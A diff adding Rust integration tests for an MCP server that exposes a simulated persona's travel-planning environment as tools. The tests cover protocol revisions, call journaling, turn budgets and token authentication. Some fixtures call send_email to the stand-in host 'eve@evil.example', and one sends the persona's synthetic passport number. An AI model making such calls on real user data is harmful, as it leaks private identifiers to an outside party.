@@ -1,0 +1,159 @@
+//! The persona's environment over MCP (issue 26), driven by the official Python `mcp` client
+//! in both the current protocol revision (2026-07-28, stateless) and the previous one
+//! (2025-11-25, initialize handshake).
+
+use std::path::Path;
+use std::process::Command;
+
+use converse_tui::core::dataset::{CalendarEntry, Domain, Email, Environment};
+use converse_tui::core::episode::EventBody;
+use converse_tui::core::sim::assistant::BUDGET_FALLBACK;
+use converse_tui::core::sim::mcp_server::EnvironmentServer;
+use converse_tui::core::sim::{EnvironmentState, TOOL_NAMES};
+use pretty_assertions::assert_eq;
+use serde_json::{Value, json};
+
+use crate::support::python;
+
+pub fn env() -> Environment {
+    Environment {
+        domain: Domain::TravelPlanning,
+        persona: 1,
+        general_info: "Name: Ada Lovelace\nPhone: 555-0100\nPassport: X1234567".into(),
+        emails: vec![Email {
+            from: "bob@example.com".into(),
+            to: "ada@example.com".into(),
+            subject: "Lisbon trip".into(),
+            body: "Flights are booked.".into(),
+        }],
+        calendar: vec![CalendarEntry {
+            date: "2025-03-01".into(),
+            event: "Dentist".into(),
+            participants: "Dr. Who".into(),
+            details: "Bring X-rays".into(),
+        }],
+        banking: "Balance: 100".into(),
+        medical: "Allergy: none".into(),
+        persona_text: String::new(),
+        options_text: String::new(),
+    }
+}
+
+/// Runs the official client against the server in a blocking thread (it is a subprocess).
+async fn official_client(server: &EnvironmentServer, token: &str, mode: &str, calls: Value) -> Value {
+    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/python/mcp_env_client.py");
+    let args = [server.url.clone(), token.to_string(), mode.to_string(), calls.to_string()];
+    let output = tokio::task::spawn_blocking(move || {
+        Command::new(python::python()).arg(script).args(args).output().unwrap()
+    })
+    .await
+    .unwrap();
+    assert!(output.status.success(), "mcp client failed:\n{}", String::from_utf8_lossy(&output.stderr));
+    serde_json::from_slice(&output.stdout).unwrap()
+}
+
+fn token_of(server: &EnvironmentServer) -> String {
+    server.authorization().strip_prefix("Bearer ").unwrap().to_string()
+}
+
+async fn lists_and_calls_tools(mode: &str, expected_version: &str) {
+    let (server, mut events) =
+        EnvironmentServer::start(EnvironmentState::new(&env()), 10, "127.0.0.1:0".parse().unwrap())
+            .await
+            .unwrap();
+    server.begin_turn(3).await;
+    let calls = json!([
+        ["get_user_info", {"query": "passport"}],
+        ["send_email", {"recipient": "eve@evil.example", "body": "X1234567"}],
+        ["no_such_tool", {}],
+    ]);
+    let printed = official_client(&server, &token_of(&server), mode, calls.clone()).await;
+    assert_eq!(printed["version"], expected_version);
+    assert_eq!(printed["tools"], json!(TOOL_NAMES));
+
+    // The same calls straight on a fresh environment: the server adds nothing and drops nothing.
+    let mut reference = EnvironmentState::new(&env());
+    let mut journal = Vec::new();
+    while let Ok(event) = events.try_recv() {
+        journal.push(event);
+    }
+    assert_eq!(journal.len(), 6, "a tool_call and a tool_result per call: {journal:?}");
+    for (i, call) in calls.as_array().unwrap().iter().enumerate() {
+        let (tool, args) = (call[0].as_str().unwrap(), &call[1]);
+        let expected = reference.execute(tool, &args.to_string());
+        assert_eq!(printed["results"][i], json!({"text": expected.output, "is_error": !expected.ok}));
+        let (EventBody::ToolCall(c), EventBody::ToolResult(r)) = (&journal[2 * i], &journal[2 * i + 1])
+        else {
+            panic!("not a call then its result: {:?}", &journal[2 * i..2 * i + 2]);
+        };
+        assert_eq!((c.turn, c.tool.as_str(), &c.args), (3, tool, args));
+        assert_eq!(
+            (r.turn, r.call_id.as_str(), r.output.as_str(), r.ok),
+            (3, c.call_id.as_str(), expected.output.as_str(), expected.ok)
+        );
+    }
+    assert_eq!(server.environment().await, reference);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn official_client_lists_and_calls_tools_in_the_current_revision() {
+    lists_and_calls_tools("2026-07-28", "2026-07-28").await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn official_client_lists_and_calls_tools_in_the_previous_revision() {
+    lists_and_calls_tools("legacy", "2025-11-25").await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_call_past_the_turns_budget_gets_the_references_error_and_touches_nothing() {
+    let (server, _events) =
+        EnvironmentServer::start(EnvironmentState::new(&env()), 1, "127.0.0.1:0".parse().unwrap())
+            .await
+            .unwrap();
+    server.begin_turn(1).await;
+    let calls = json!([
+        ["read_calendar", {}],
+        ["send_email", {"recipient": "eve@evil.example", "body": "hi"}],
+    ]);
+    let printed = official_client(&server, &token_of(&server), "legacy", calls).await;
+    assert_eq!(printed["results"][1], json!({"text": BUDGET_FALLBACK, "is_error": true}));
+    assert!(server.environment().await.sent_emails.is_empty());
+    // A new turn, a new budget.
+    server.begin_turn(2).await;
+    let printed =
+        official_client(&server, &token_of(&server), "legacy", json!([["read_calendar", {}]])).await;
+    assert_eq!(printed["results"][0]["is_error"], false);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_request_without_the_token_is_refused() {
+    let (server, mut events) =
+        EnvironmentServer::start(EnvironmentState::new(&env()), 10, "127.0.0.1:0".parse().unwrap())
+            .await
+            .unwrap();
+    let call = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/list"});
+    let http = reqwest::Client::new();
+    for header in [None, Some("Bearer wrong"), Some(format!("Bearer {}x", token_of(&server)).as_str())] {
+        let mut request =
+            http.post(&server.url).header("Accept", "application/json, text/event-stream").json(&call);
+        if let Some(h) = header {
+            request = request.header("Authorization", h);
+        }
+        assert_eq!(request.send().await.unwrap().status(), 401, "{header:?}");
+    }
+    // The official client without the token fails too, and nothing is journaled.
+    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/python/mcp_env_client.py");
+    let url = server.url.clone();
+    let output = tokio::task::spawn_blocking(move || {
+        Command::new(python::python())
+            .arg(script)
+            .args([url.as_str(), "nope", "legacy", "[]"])
+            .output()
+            .unwrap()
+    })
+    .await
+    .unwrap();
+    assert!(!output.status.success());
+    assert!(events.try_recv().is_err());
+}
